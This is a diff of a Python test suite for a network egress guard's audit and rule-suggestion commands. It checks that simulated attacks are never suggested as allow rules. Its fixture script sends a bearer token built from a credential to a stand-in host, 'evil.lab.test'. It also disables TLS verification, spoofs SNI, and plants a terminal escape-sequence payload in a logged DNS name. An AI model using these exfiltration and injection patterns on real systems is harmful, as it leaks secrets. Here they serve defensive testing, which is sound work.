@@ -16,6 +16,7 @@ SCHEMA = os.path.normpath(os.path.join(support.ROOT, "..", "shared", "ocsf"))
 RULES = policy("{to: 'https://api.lab.test', credential: api}", "{to: 'https://pass.lab.test', tls: passthrough}",
                "tcp://tcp.lab.test:2222", "udp://udp.lab.test:1234", "http://plain.lab.test", "https://meta.lab.test",
                "https://other.lab.test", "https://nowhere.other.test", deny=("https://git.lab.test",), credentials="PLACE")
+PLAIN = {("GET", "https://fresh.lab.test/plain"), ("GET", "http://fresh.lab.test/plain")}  # refused, and no attack
 EVERYTHING = """
 import os
 def quiet(f, *a, **k):
@@ -27,6 +28,7 @@ quiet(fetch, 'evil.lab.test', '/p', fields=('Authorization: Bearer ' + k,))
 quiet(fetch, 'git.lab.test', '/p'); quiet(fetch, 'meta.lab.test', '/'); quiet(fetch, 'other.lab.test', '/')
 quiet(fetch, 'nowhere.other.test', '/'); quiet(fetch, 'plain.lab.test', '/x', port=80, plain=True)
 quiet(fetch, 'pass.lab.test', '/x', verify=False)
+quiet(fetch, 'fresh.lab.test', '/plain'); quiet(fetch, 'fresh.lab.test', '/plain', port=80, plain=True)
 t = quiet(tls, 'api.lab.test', sni='www.lab.test', verify=False)
 if t: quiet(t.sendall, request('GET', '/', 'www.lab.test')); quiet(t.recv, 10)
 s = connect('tcp.lab.test', 2222); s.recv(20); s.close()
@@ -71,6 +73,10 @@ class Audit(Case):
 
     def tool(self, *argv, **kw):
         return subprocess.run([VETHGUARD, "audit", *argv], capture_output=True, text=True, timeout=60 * SLOW, **kw)
+
+    def explain(self, policy_file, method, url):
+        return subprocess.run([VETHGUARD, "policy", "explain", policy_file, method, url], stdout=subprocess.DEVNULL,
+                              timeout=60 * SLOW).returncode
 
     def test_script_ran(self):
         self.assertEqual((self.done.status, self.status), (0, 0), self.done)
@@ -169,17 +175,31 @@ class Audit(Case):
         self.assertEqual(self.tool("show", "--since", "yesterday-ish", self.box.audit).returncode, 2)
 
     def test_suggest(self):
-        """Of what the attacks of this run left in the log nothing is suggested but two plain requests, and as the run's own
-        policy decides nothing was allowed by mistake: each suggested rule loads, and is what `policy explain` allows."""
+        """Of what this run left in the log, attacks and two plain requests, just the two are suggested. The run's own policy
+        denies both; the suggested one loads and allows them, but neither another method or path nor anything refused beside."""
         r = self.tool("suggest", self.box.audit, "--json")
-        self.assertEqual(r.stderr, "")
+        self.assertEqual((r.returncode, r.stderr), (0, ""), r)
         answer = json.loads(r.stdout)
-        hosts = {s["rule"]["to"] for s in answer["suggested"]}
-        for never in ("git.lab", "meta.lab", "t.evil.lab", "www.lab", "8.8.8.8"):
-            self.assertFalse([h for h in hosts if never in h], hosts)
+        rules = [s["rule"] for s in answer["suggested"]]
+        self.assertEqual({(m, x["to"] + p) for x in rules for m in x["methods"] for p in x["paths"]}, PLAIN)
         refused = {x["what"]: x["why"] for x in answer["refused"]}
         self.assertIn("a deny rule", refused["GET https://git.lab.test/p"])
-        self.assertEqual(r.returncode, 0 if hosts else 1)
+        suggested = support.LAB.write("suggested.yaml", self.tool("suggest", self.box.audit).stdout)
+        own = support.LAB.write("own.yaml", RULES.replace("PLACE", file_credential()))
+        for method, url in PLAIN:
+            self.assertEqual(self.explain(own, method, url), 1)
+            self.assertEqual(self.explain(suggested, method, url), 0)
+            self.assertEqual(self.explain(suggested, "POST", url), 1)
+            self.assertEqual(self.explain(suggested, method, url + "/x"), 1)
+        attacks = [what.split() for what in refused if what.startswith("GET ")]
+        self.assertGreater(len(attacks), 2)
+        for method, url in attacks:
+            self.assertEqual(self.explain(suggested, method, url), 1, url)
+
+    def test_suggest_escapes_once(self):
+        text = self.tool("suggest", self.box.audit).stdout
+        self.assertIn("DNS A \\x1b]0;owned\\x07", text)
+        self.assertNotIn("\\x5c", text)
 
     def test_suggest_closes_the_circle(self):
         """What was denied, then suggested, then added to the policy, is allowed; its neighbours stay denied."""
@@ -193,13 +213,9 @@ class Audit(Case):
         self.assertEqual((r.returncode, r.stderr), (0, ""), r)
         more = support.LAB.write("more.yaml", r.stdout)
         whole = support.LAB.write("whole.yaml", text.replace("allow:", f"include: [{more}]\nallow:"))
-
-        def explain(method, url):
-            return subprocess.run([VETHGUARD, "policy", "explain", whole, method, url], stdout=subprocess.DEVNULL,
-                                  timeout=60 * SLOW).returncode
-        self.assertEqual([explain("GET", "https://other.lab.test/" + p) for p in ("a", "b", "a/c")], [0, 1, 1])
-        self.assertEqual(explain("POST", "https://other.lab.test/a"), 1)
-        self.assertEqual(explain("GET", "https://evil.lab.test/"), 1)
+        self.assertEqual([self.explain(whole, "GET", "https://other.lab.test/" + p) for p in ("a", "b", "a/c")], [0, 1, 1])
+        self.assertEqual(self.explain(whole, "POST", "https://other.lab.test/a"), 1)
+        self.assertEqual(self.explain(whole, "GET", "https://evil.lab.test/"), 1)
         r = self.tool("suggest", box.audit)
         self.assertIn('      - "/b"\n', r.stdout)
         self.assertNotIn('"https://evil.lab.test', r.stdout)
